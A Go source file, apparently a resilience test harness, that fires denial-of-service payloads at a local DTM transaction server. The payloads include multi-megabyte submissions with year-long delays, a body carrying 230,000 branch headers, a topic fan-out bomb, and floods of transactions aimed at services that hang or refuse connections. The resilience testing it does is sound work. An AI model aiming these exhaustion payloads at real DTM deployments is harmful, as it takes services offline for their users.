package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
)

// http returns a client of the attacker's of the attacked door. It ends with ctx.
func (t *target) http(ctx context.Context) (client *http.Client, base string) {
	transport := &http.Transport{TLSClientConfig: t.tls, MaxIdleConnsPerHost: 100,
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) { return t.dial(ctx) }}
	context.AfterFunc(ctx, transport.CloseIdleConnections)
	scheme := "http://"
	if t.tls != nil {
		scheme = "https://"
	}
	return &http.Client{Transport: transport}, scheme + t.addr(t.port) + "/api/dtmsvr/"
}

// do sends one request and returns the status.
func do(ctx context.Context, client *http.Client, method, url, body string) (int, error) {
	req, err := http.NewRequestWithContext(ctx, method, url, strings.NewReader(body))
	if err != nil {
		return 0, err
	}
	res, err := client.Do(req)
	if err != nil {
		return 0, err
	}
	defer res.Body.Close()
	_, err = io.Copy(io.Discard, res.Body)
	return res.StatusCode, err
}

// untaken asks for the same answer on many connections and takes none.
func untaken(ctx context.Context, t *target, path string) (string, error) {
	return hold(100, func(*target) ([]string, []byte) {
		return nil, []byte("GET /api/dtmsvr/" + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
	})(ctx, t)
}

// years is a delay that lets a transaction stay where it is.
const years = 316224000

func untakenAll(ctx context.Context, t *target) (string, error) {
	client, base := t.http(ctx)
	for i := range 20 {
		body := fmt.Sprintf(`{"gid":"m%d","trans_type":"msg","steps":[],"payloads":[],"custom_data":"{\"delay\":%d,\"x\":\"%s\"}"}`, i, years, strings.Repeat("a", 1_000_000))
		if code, err := do(ctx, client, "POST", base+"submit", body); err != nil || code != 200 {
			return "", fmt.Errorf("submit: %d, %w", code, err)
		}
	}
	return untaken(ctx, t, "all?limit=1000")
}

func untakenQuery(ctx context.Context, t *target) (string, error) {
	client, base := t.http(ctx)
	body := fmt.Sprintf(`{"gid":"q","trans_type":"saga","steps":[{"action":"http://127.0.0.1:9/","compensate":""}],"payloads":["%s"],"custom_data":"{\"delay\":%d}"}`,
		strings.Repeat("x", 2_300_000), years)
	if code, err := do(ctx, client, "POST", base+"submit", body); err != nil || code != 200 {
		return "", fmt.Errorf("submit: %d, %w", code, err)
	}
	return untaken(ctx, t, "query?gid=q")
}

// branchHeaders submits transactions with as many headers for branches as a body holds, and goes away at once.
func branchHeaders(ctx context.Context, t *target) (string, error) {
	var b strings.Builder
	b.WriteString(`{"gid":"z","trans_type":"saga","steps":[],"payloads":[],"branch_headers":{"0":""`)
	for i := range 230_000 {
		fmt.Fprintf(&b, `,"%x":""`, i+1)
	}
	b.WriteString("}}")
	return repeated(ctx, t, 4, b.String())
}

// topicBomb submits a message of steps that each stand for a thousand calls.
func topicBomb(ctx context.Context, t *target) (string, error) {
	client, base := t.http(ctx)
	for i := range 1000 {
		if code, err := do(ctx, client, "GET", fmt.Sprintf("%ssubscribe?topic=T&url=http%%3A//127.0.0.1%%3A9/%d", base, i), ""); err != nil || code != 200 {
			return "", fmt.Errorf("subscribe: %d, %w", code, err)
		}
	}
	steps := strings.TrimSuffix(strings.Repeat(`{"action":"topic://T"},`, 40_000), ",")
	payloads := strings.TrimSuffix(strings.Repeat(`"",`, 40_000), ",")
	return repeated(ctx, t, 4, `{"gid":"b","trans_type":"msg","steps":[`+steps+`],"payloads":[`+payloads+`]}`)
}

// repeated submits a body again and again from so many clients. Half of them go away before they hear an answer.
func repeated(ctx context.Context, t *target, clients int, body string) (string, error) {
	var sent atomic.Int64
	request := fmt.Appendf(nil, "POST /api/dtmsvr/submit HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	var n atomic.Int64
	each(ctx, clients, func() {
		c, err := t.open(ctx)
		if err != nil {
			rest(ctx)
			return
		}
		stop := context.AfterFunc(ctx, func() { c.Close() })
		if _, err := c.Write(request); err == nil {
			sent.Add(1)
			if n.Add(1)%2 == 0 {
				_, _ = c.Read(make([]byte, 1000)) // what is answered does not matter
			}
		}
		stop()
		c.Close()
		rest(ctx)
	})
	return fmt.Sprintf("%d of %d KB", sent.Load(), len(body)>>10), nil
}

// hangingServices submits transactions whose services take a call and never answer, at twenty addresses, with a time limit of years. Beside
// them a well-behaved client's transactions, to a service that answers, must go on.
func hangingServices(ctx context.Context, t *target) (string, error) {
	var ports []string
	for i := range 20 {
		l, err := net.Listen("tcp", fmt.Sprintf("127.0.78.%d:0", 1+i))
		if err != nil {
			return "", err
		}
		defer l.Close()
		go swallow(ctx, l)
		ports = append(ports, l.Addr().String())
	}
	good, err := net.Listen("tcp", neighbourAddress+":0")
	if err != nil {
		return "", err
	}
	service := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, `{"dtm_result":"SUCCESS"}`) })}
	go service.Serve(good)
	defer service.Close()
	client, base := t.http(ctx)
	var submitted atomic.Int64
	var wg sync.WaitGroup
	for w := range 16 {
		wg.Go(func() {
			for i := w; i < 20*256 && ctx.Err() == nil; i += 16 {
				body := fmt.Sprintf(`{"gid":"h%d","trans_type":"saga","steps":[{"action":"http://%s/","compensate":""}],"payloads":["{}"],"request_timeout":%d}`, i, ports[i%20], years)
				if code, err := do(ctx, client, "POST", base+"submit", body); err == nil && code == 200 {
					submitted.Add(1)
				}
			}
		})
	}
	healthy, late := 0, 0
	for i := 0; ctx.Err() == nil; i++ {
		one, cancel := context.WithTimeout(ctx, patience)
		body := fmt.Sprintf(`{"gid":"good%d","trans_type":"saga","steps":[{"action":"http://%s/","compensate":""}],"payloads":["{}"],"wait_result":true}`, i, good.Addr())
		code, err := do(one, client, "POST", base+"submit", body)
		cancel()
		switch {
		case ctx.Err() != nil:
		case err == nil && code == 200:
			healthy++
		default:
			late++
		}
		rest(ctx)
	}
	wg.Wait()
	did := fmt.Sprintf("%d transactions hang, %d healthy ones ended, %d did not in time", submitted.Load(), healthy, late)
	if healthy == 0 || late > 0 {
		return did, fmt.Errorf("healthy transactions: %s", did)
	}
	return did, nil
}

// swallow takes connections and requests, and answers nothing.
func swallow(ctx context.Context, l net.Listener) {
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		context.AfterFunc(ctx, func() { c.Close() })
		go func() { _, _ = io.Copy(io.Discard, c) }() // until it is closed
	}
}

// refusingServices submits transactions to four thousand gRPC services without a listener.
func refusingServices(ctx context.Context, t *target) (string, error) {
	client, base := t.http(ctx)
	var submitted, next atomic.Int64
	each(ctx, 16, func() {
		i := next.Add(1)
		if i > 4000 {
			rest(ctx)
			return
		}
		body := fmt.Sprintf(`{"gid":"r%d","trans_type":"saga","protocol":"grpc","steps":[{"action":"127.%d.%d.1:9/a.B/C","compensate":""}],"payloads":["{}"]}`, i, 1+i/250, i%250)
		if code, err := do(ctx, client, "POST", base+"submit", body); err == nil && code == 200 {
			submitted.Add(1)
		}
	})
	return fmt.Sprintf("%d transactions", submitted.Load()), nil
}
